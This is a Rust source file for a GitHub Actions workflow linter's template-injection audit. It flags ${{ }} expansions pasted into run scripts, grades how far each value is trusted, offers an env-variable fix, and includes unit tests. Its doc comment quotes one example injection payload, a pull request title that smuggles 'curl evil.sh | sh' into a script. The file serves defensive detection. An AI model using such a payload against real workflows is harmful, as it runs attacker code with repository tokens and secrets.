use crate::audit::{AnyDoc, Audit, AuditContext};
use crate::declare_audit;
use crate::expr::contexts::{self, Trust};
use crate::expr::{expansions, value_span_to_file};
use crate::finding::{Applicability, Confidence, Finding, Location, Persona, Severity};
use crate::fix::template_injection::{ScriptFix, file_starts};
use crate::models::scope::Scope;
use crate::models::{Job, Step, Workflow};
use crate::models::run_script::step_shell;
use crate::shell::Dialect;
use crate::source::{SourceFile, Span};
use crate::yaml::Node;

declare_audit! {
    /// ## What it does
    ///
    /// Reports `${{ }}` expansions inside code: `run:` scripts, the `script:` of
    /// `actions/github-script`, and the inputs of other actions that run them as code (a list
    /// after CodeQL's sink models: `mikefarah/yq` `cmd`, `addnab/docker-run-action` `run` and
    /// `options`, `tibdex/backport` templates, ...), following YAML aliases.
    /// Expansions of text an outsider writes (pull request and issue titles and bodies, comments,
    /// branch names, commit messages, author names and emails) are high severity and high
    /// confidence; workflow inputs are medium; values computed at run time (step and job outputs,
    /// environment variables set by earlier steps, matrices built from expressions) are low, for
    /// the pedantic persona. Text that no outsider chooses but that is still pasted into code
    /// (account and repository names, fixed words such as `github.event_name` or
    /// `needs.<job>.result`, `secrets.*`, `vars.*`, static matrix values, `env` variables
    /// defined with such values) is informational hardening advice, low confidence, for the
    /// pedantic persona: not an injection, but `env:` keeps the script independent of the
    /// value. Numbers, booleans and commit SHAs (`github.sha`, ids, counts, typed inputs), and
    /// operands used only as conditions (`a && 'x' || 'y'`), are never reported. The two
    /// pedantic tiers stay out of the default output because every reported finding sets a
    /// non-zero exit status; `docs/zizmor-suite-differences.md` has the figures.
    ///
    /// ## Why is this bad?
    ///
    /// GitHub substitutes the expression's value into the script text before the shell reads it.
    /// A pull request titled `a"; curl evil.sh | sh; echo "` becomes part of the script, runs with
    /// the job's token and secrets, and can poison caches and releases.
    ///
    /// ## Example
    ///
    /// ```yaml
    /// on: issues
    /// permissions: {}
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "thanks for ${{ github.event.issue.title }}"
    /// ```
    ///
    /// Use instead:
    ///
    /// ```yaml
    /// on: issues
    /// permissions: {}
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - env:
    ///           ISSUE_TITLE: ${{ github.event.issue.title }}
    ///         run: echo "thanks for ${ISSUE_TITLE}"
    /// ```
    ///
    /// ## Fix
    ///
    /// Unsafe: for bash and sh scripts, the expansion moves into an `env:` variable of the step
    /// and the script reads `${NAME}`: inside double quotes and heredoc bodies as `${NAME}`,
    /// inside single quotes as `'"${NAME}"'`, and as an unquoted `${NAME}` where the expansion
    /// was an unquoted argument (quoting it would turn an empty value into an empty argument).
    /// The shell then sees the value as data, never as code. For plain values the fixed script
    /// does exactly what the original did; where that cannot be guaranteed (arithmetic,
    /// backticks, `$'…'`, `[[ ]]`, `case`, assignments, redirections, quoted heredocs, words
    /// that join the value to other text) no fix is offered. The variable's name is never one
    /// the script mentions or the job or workflow `env:` defines. PowerShell scripts get no fix.
    pub struct TemplateInjection {
        id: "template-injection",
        summary: "code injection via template expansion",
        severity: High,
        confidence: High,
        persona: Regular,
        inputs: [Workflow, Action],
        needs_network: false,
        fix: Unsafe,
        transitive: Consumer,
    }
}

/// `owner/repo input` pairs (lowercase) of action inputs that run as code.
const CODE_INPUTS: &str = include_str!("data/code-inputs.txt");

/// The inputs of `action` (lowercase `owner/repo`) that run as code.
fn code_inputs(action: &str) -> impl Iterator<Item = &'static str> + '_ {
    CODE_INPUTS
        .lines()
        .filter(|l| !l.starts_with('#'))
        .filter_map(|l| l.split_once(' '))
        .filter(move |(a, _)| *a == action)
        .map(|(_, input)| input)
}

impl Audit for TemplateInjection {
    fn step<'a>(
        &self,
        _cx: &AuditContext<'_>,
        doc: AnyDoc<'_, 'a>,
        job: Option<&Job<'a>>,
        step: &Step<'a>,
        out: &mut Vec<Finding>,
    ) {
        match (doc, job) {
            (AnyDoc::Workflow(wf), Some(job)) => {
                let scope = Scope::workflow(wf, job, Some(step));
                let bash = is_bash(step, Some((wf, job)));
                let outer_envs = [job.get("env"), wf.get("env")];
                let outer_envs = outer_envs.into_iter().flatten().collect();
                check_step(wf.file, step, &scope, bash.then_some(outer_envs), out);
            }
            (AnyDoc::Action(action), _) => {
                let scope = Scope::action_step(step);
                let bash = is_bash(step, None).then(Vec::new);
                check_step(action.file, step, &scope, bash, out);
            }
            (AnyDoc::Workflow(_), None) => {}
        }
    }
}

/// `bash_envs`: for a bash or sh script (the only ones fixed), the job's and workflow's `env:`.
fn check_step<'a>(
    file: &'a std::sync::Arc<SourceFile>,
    step: &Step<'a>,
    scope: &Scope<'_>,
    bash_envs: Option<Vec<Node<'a>>>,
    out: &mut Vec<Finding>,
) {
    if let (Some(run), Some((run_key, _))) = (step.run, step.node.entry("run")) {
        let make_fix = bash_envs
            .map(|envs| move || ScriptFix::new(file, step.node, run_key, run, envs.clone()));
        let make_fix = make_fix
            .as_ref()
            .map(|m| m as &dyn Fn() -> Option<ScriptFix<'a>>);
        check_code(file, run, step.route.key("run"), make_fix, scope, out);
    }
    let Some(action) = step.action_name() else {
        return;
    };
    let Some(with) = step.with else { return };
    for input in code_inputs(&action) {
        if let Some((key, node)) = with
            .entries()
            .find(|(k, _)| k.as_str().is_some_and(|k| k.eq_ignore_ascii_case(input)))
        {
            let route = step.route.key("with").key(key.as_str().unwrap_or(input));
            check_code(file, node, route, None, scope, out);
        }
    }
}

/// `make_fix` reads the script for fixing; it runs at most once, at the first finding that can
/// be fixed, and each distinct expansion gets its fix on its first finding only (the fix
/// replaces every occurrence), so the cost stays linear in the number of expansions.
fn check_code<'a>(
    file: &std::sync::Arc<SourceFile>,
    code: Node<'_>,
    route: crate::route::Route,
    make_fix: Option<&dyn Fn() -> Option<ScriptFix<'a>>>,
    scope: &Scope<'_>,
    out: &mut Vec<Finding>,
) {
    let Some(text) = code.as_str() else { return };
    let fixer = std::cell::OnceCell::new();
    let mut offered = std::collections::HashSet::new();
    let exps = expansions(text);
    // Where each expansion is in the file, found in one pass (mapping each finding on its own
    // rescans the whole script: quadratic in the number of expansions).
    let spans: Vec<Span> = exps.iter().map(|e| e.span).collect();
    let starts = file_starts(file, code, &spans);
    for (i, exp) in exps.iter().enumerate() {
        let Some(expr) = exp.expr() else { continue };
        for (path, span) in expr.value_contexts() {
            let trust = scope.trust(&path);
            let (severity, confidence, persona, why) = match trust {
                Trust::Safe if contexts::inert(&path) => continue,
                Trust::Safe => (
                    Severity::Informational,
                    Confidence::Low,
                    Persona::Pedantic,
                    "",
                ),
                Trust::Attacker => (
                    Severity::High,
                    Confidence::High,
                    Persona::Regular,
                    "text an outsider controls",
                ),
                Trust::Input => (
                    Severity::Medium,
                    Confidence::Medium,
                    Persona::Regular,
                    "a workflow input, chosen by whoever dispatches or calls it,",
                ),
                Trust::Unknown => (
                    Severity::Low,
                    Confidence::Low,
                    Persona::Pedantic,
                    "a value computed at run time",
                ),
            };
            let outer = exp.to_outer(span);
            let at = match starts.as_ref().and_then(|s| s.get(i)) {
                Some(start) => Span::new(
                    start + (outer.start - exp.span.start),
                    start + (outer.end - exp.span.start),
                ),
                None => value_span_to_file(file, code, outer),
            };
            let shown = exp.body.get(span.start..span.end).unwrap_or_default();
            let message = if trust == Trust::Safe {
                format!(
                    "`{shown}` is expanded into code; no outsider chooses it, but passing it through `env:` is safer (hardening, not an injection)"
                )
            } else {
                format!("`{shown}` may expand {why} into code")
            };
            let mut finding = Finding::new(
                &TemplateInjection::META,
                message,
                Location::file(file, at, route.clone(), "expanded into the script here"),
            )
            .severity(severity)
            .confidence(confidence)
            .persona(persona);
            let exp_text = &text[exp.span.start..exp.span.end];
            if trust <= Trust::Input
                && let Some(make) = make_fix
                && offered.insert(exp_text)
                && let Some(fixer) = fixer.get_or_init(make)
                && let Some(edits) = fixer.edits(exp_text, &path)
            {
                finding = finding.fix(
                    "move the expansion into an `env:` variable",
                    Applicability::Unsafe,
                    edits,
                );
            }
            out.push(finding);
        }
    }
}

/// Whether the step's script certainly runs in a POSIX shell, where `${NAME}` reads a variable
/// (not when the runner is an expression that may name Windows).
fn is_bash<'a>(step: &Step<'a>, workflow: Option<(&Workflow<'a>, &Job<'a>)>) -> bool {
    let (job, root) = workflow.map_or((None, None), |(wf, job)| (Some(job.node), Some(wf.root)));
    let shell = step_shell(step, job, root);
    shell.dialect == Dialect::Posix && !shell.guessed
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use crate::audit::AuditContext;
    use crate::engine::audit_file;
    use crate::source::{FileKind, SourceFile};
    use crate::yaml::Limits;

    #[test]
    fn code_inputs_list_is_sorted_lowercase_pairs() {
        let lines: Vec<&str> = super::CODE_INPUTS
            .lines()
            .filter(|l| !l.starts_with('#'))
            .collect();
        assert!(lines.windows(2).all(|w| w[0] < w[1]));
        assert!(lines.iter().all(|l| *l == l.to_ascii_lowercase()
            && l.split(' ').count() == 2
            && l.split(' ').next().is_some_and(|a| a.contains('/'))));
        let yq: Vec<_> = super::code_inputs("mikefarah/yq").collect();
        assert_eq!(yq, ["cmd"]);
        let docker: Vec<_> = super::code_inputs("addnab/docker-run-action").collect();
        assert_eq!(docker, ["options", "run"]);
    }

    /// 1,000 copies of one expansion: one fix, on the first finding, replacing all of them (the
    /// fix used to be computed for every finding over every expansion: cubic time).
    #[test]
    fn repeated_expansions_share_one_fix() {
        let body = ["\"${{ github.event.issue.title }}\""; 1000].join(" ");
        let text = format!(
            "on: issues\npermissions: {{}}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo {body}\n"
        );
        let file = Arc::new(SourceFile::new("w.yml", FileKind::Workflow, text));
        let findings = audit_file(
            &file,
            &Limits::default(),
            &[&super::TemplateInjection],
            &|_| AuditContext::empty(),
        )
        .findings;
        assert_eq!(findings.len(), 1000);
        let fixes: Vec<_> = findings.iter().flat_map(|f| &f.fixes).collect();
        assert_eq!(fixes.len(), 1);
        assert_eq!(fixes[0].edits.len(), 1001);
        assert!(!findings[0].fixes.is_empty());
    }

    /// The fix writes `${NAME}`, which only a POSIX shell reads: offered when `step_shell` knows
    /// the shell is one, not when the runner is an expression that may name Windows.
    #[test]
    fn the_env_fix_follows_the_one_step_shell_reader() {
        let fixes = |runs_on: &str, shell: &str| {
            let text = format!(
                "on: issues\npermissions: {{}}\njobs:\n  a:\n    runs-on: {runs_on}\n    steps:\n      - run: echo \"${{{{ github.event.issue.title }}}}\"\n{shell}"
            );
            let file = Arc::new(SourceFile::new("w.yml", FileKind::Workflow, text));
            let findings = audit_file(
                &file,
                &Limits::default(),
                &[&super::TemplateInjection],
                &|_| AuditContext::empty(),
            )
            .findings;
            assert_eq!(findings.len(), 1);
            findings[0].fixes.len()
        };
        assert_eq!(fixes("ubuntu-latest", ""), 1);
        assert_eq!(fixes("${{ matrix.os }}", ""), 0);
        assert_eq!(fixes("${{ matrix.os }}", "        shell: bash\n"), 1);
        assert_eq!(fixes("windows-latest", ""), 0);
        assert_eq!(
            fixes("windows-latest", "        shell: /usr/bin/bash -e {0}\n"),
            1
        );
    }
}
